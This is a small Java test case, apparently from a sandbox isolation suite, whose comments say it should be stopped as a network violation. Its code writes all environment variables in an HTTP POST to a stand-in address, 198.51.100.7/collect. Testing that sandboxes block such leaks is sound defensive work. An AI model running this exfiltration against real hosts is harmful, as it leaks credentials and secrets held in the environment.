// attack: post a secret over HTTP to an IP address (no name to resolve)
// expect: VIOLATION NETWORK
// stopped-by: network none: no interface but loopback, the connect fails at once
import java.net.HttpURLConnection;
import java.net.URL;
public class HttpExfil {
  public static void main(String[] args) throws Exception {
    HttpURLConnection c = (HttpURLConnection) new URL("http://198.51.100.7/collect").openConnection();
    c.setConnectTimeout(3000);
    c.setDoOutput(true);
    c.getOutputStream().write(System.getenv().toString().getBytes());
    System.out.println(c.getResponseCode());
    System.exit(42);
  }
}
